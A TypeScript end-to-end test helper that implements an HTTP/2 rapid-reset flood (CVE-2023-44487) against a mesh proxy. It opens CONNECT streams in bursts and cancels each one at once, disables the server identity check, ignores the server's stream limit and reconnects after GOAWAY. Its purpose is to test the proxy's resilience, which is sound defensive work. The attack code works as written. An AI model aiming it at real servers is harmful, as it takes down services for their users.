/**
 * An HTTP/2 rapid-reset flooder (CVE-2023-44487) for the e2e tests, run
 * inside a node's network namespace with a valid mesh client certificate: it
 * plays a peer node proxy that opens CONNECT streams and cancels each one
 * right after sending its HEADERS, so the server sees HEADERS then
 * RST_STREAM(CANCEL) for every stream and never a stream that lives.
 * Bounded in streams and in time:
 *
 *   node rapid-reset-flooder.js --address 10.10.0.2 --port 15008 --sni 10-244-2-10.ipv4.hbone.weft
 *     --authority 10.244.2.10:7001 --ca root.pem --cert c.pem --key k.pem
 *     [--sessions 4] [--streams 2000] [--batch 50] [--end close|destroy|exit]
 *     [--duration-ms 0] [--max-streams 50000] [--timeout-ms 20000]
 *
 * --sessions sessions at once, each sending up to --streams streams in bursts
 * of --batch (one burst per event-loop turn, so the frames leave in few
 * writes, as a flooder's would). A session ends when it has sent them all
 * (then it ends as --end says) or when the server ends it. With
 * --duration-ms, each of the --sessions slots opens a new session when its
 * last one ends, until that long has passed or --max-streams were sent in all,
 * as a flooder that is sent away comes back. Prints one JSON line and exits 0
 * (a usage error exits 2); 'flooding' goes to stderr when the first session connects:
 *   sessions   how many were opened
 *   sent       streams sent on them all
 *   goaway     sessions by the code of the last GOAWAY they got ("none" if none)
 *   errors     sessions by their first error
 *   answered   streams the server answered with headers (it dialled the pod for them)
 *   elapsedMs  the whole run
 */
import { connect, constants, type ClientHttp2Session } from 'node:http2';
import { readFileSync } from 'node:fs';
import { parseArgs } from 'node:util';

const { values } = parseArgs({
  options: {
    address: { type: 'string' },
    port: { type: 'string', default: '15008' },
    sni: { type: 'string' },
    authority: { type: 'string' },
    ca: { type: 'string' },
    cert: { type: 'string' },
    key: { type: 'string' },
    sessions: { type: 'string', default: '4' },
    streams: { type: 'string', default: '2000' },
    batch: { type: 'string', default: '50' },
    'timeout-ms': { type: 'string', default: '20000' },
    end: { type: 'string', default: 'close' },
    'duration-ms': { type: 'string', default: '0' },
    'max-streams': { type: 'string', default: '50000' },
  },
});

if (!values.address || !values.sni || !values.authority || !values.ca || !values.cert || !values.key) {
  process.stderr.write('usage: rapid-reset-flooder --address IP [--port N] --sni NAME --authority IP:PORT --ca FILE --cert FILE --key FILE [--sessions N] [--streams N] [--batch N] [--timeout-ms N]\n');
  process.exit(2);
}

const sessionCount = Math.min(Math.max(Number(values.sessions), 1), 64);
const streamsPerSession = Math.min(Math.max(Number(values.streams), 1), 100_000);
const batch = Math.min(Math.max(Number(values.batch), 1), 1000);
/** How a session that sent all its streams ends: GOAWAY and wait for the server (close), a TCP FIN
 * without GOAWAY (destroy), or the process exits at once with whatever is unread (exit). */
const end = values.end === 'destroy' || values.end === 'exit' ? values.end : 'close';
const timeoutMs = Math.min(Math.max(Number(values['timeout-ms']), 1000), 120_000);
const durationMs = Math.min(Math.max(Number(values['duration-ms']), 0), timeoutMs);
const maxStreams = Math.min(Math.max(Number(values['max-streams']), 1), 1_000_000);

interface SessionReport {
  sent: number;
  goaway: number | null;
  error: string | null;
  ms: number;
}

const started = performance.now();
const reports: SessionReport[] = [];
let answered = 0;
let sentTotal = 0;
let announced = false;
const open = new Set<ClientHttp2Session>();

let finished = false;
function finish(): void {
  if (finished) return;
  finished = true;
  for (const session of open) session.destroy();
  const tally = (key: (r: SessionReport) => string) =>
    reports.reduce<Record<string, number>>((counts, r) => ({ ...counts, [key(r)]: (counts[key(r)] ?? 0) + 1 }), {});
  const summary = {
    sessions: reports.length,
    sent: sentTotal,
    goaway: tally((r) => (r.goaway === null ? 'none' : String(r.goaway))),
    errors: tally((r) => r.error ?? 'none'),
    answered,
    elapsedMs: Math.round(performance.now() - started),
  };
  process.stdout.write(`${JSON.stringify(summary)}\n`);
  setImmediate(() => process.exit(0));
}
setTimeout(finish, timeoutMs).unref();

function flood(): Promise<void> {
  return new Promise((resolve) => {
    const report: SessionReport = { sent: 0, goaway: null, error: null, ms: 0 };
    reports.push(report);
    const since = performance.now();
    const session = connect(`https://${values.address}:${values.port}`, {
      servername: values.sni,
      ca: readFileSync(values.ca!),
      cert: readFileSync(values.cert!),
      key: readFileSync(values.key!),
      minVersion: 'TLSv1.3',
      maxVersion: 'TLSv1.3',
      checkServerIdentity: () => undefined, // the server's SPIFFE ID is mtls.test.ts's business
      // A flooder does not stop at the server's MAX_CONCURRENT_STREAMS: its streams are gone at once.
      peerMaxConcurrentStreams: 1_000_000,
    });
    open.add(session);
    session.on('goaway', (code) => {
      report.goaway = code;
    });
    session.on('error', (error) => {
      report.error ??= `${(error as NodeJS.ErrnoException).code ?? error.name}: ${error.message}`;
    });
    session.once('close', () => {
      report.ms = Math.round(performance.now() - since);
      open.delete(session);
      resolve();
    });
    const burst = () => {
      if (session.destroyed || session.closed) return;
      for (let i = 0; i < batch && report.sent < streamsPerSession && sentTotal < maxStreams; i++) {
        let stream;
        try {
          stream = session.request({ ':method': 'CONNECT', ':authority': values.authority! }, { endStream: false });
        } catch (error) {
          report.error ??= `request: ${(error as Error).message}`;
          session.destroy();
          return;
        }
        report.sent++;
        sentTotal++;
        stream.on('error', () => undefined);
        stream.on('response', () => answered++);
        stream.close(constants.NGHTTP2_CANCEL);
      }
      if (report.sent < streamsPerSession && sentTotal < maxStreams) setImmediate(burst);
      else if (end === 'close') session.close();
      else if (end === 'destroy') session.destroy();
      else finish();
    };
    session.once('connect', () => {
      if (!announced) {
        announced = true;
        process.stderr.write('flooding\n'); // the test measures its bystander from here on
      }
      burst();
    });
  });
}

/** One slot: a session, and with --duration-ms a new one each time the last ends, while time and streams last. */
async function slot(): Promise<void> {
  do await flood();
  while (durationMs > 0 && performance.now() - started < durationMs && sentTotal < maxStreams && !finished);
}

Promise.all(Array.from({ length: sessionCount }, () => slot())).then(finish, finish);
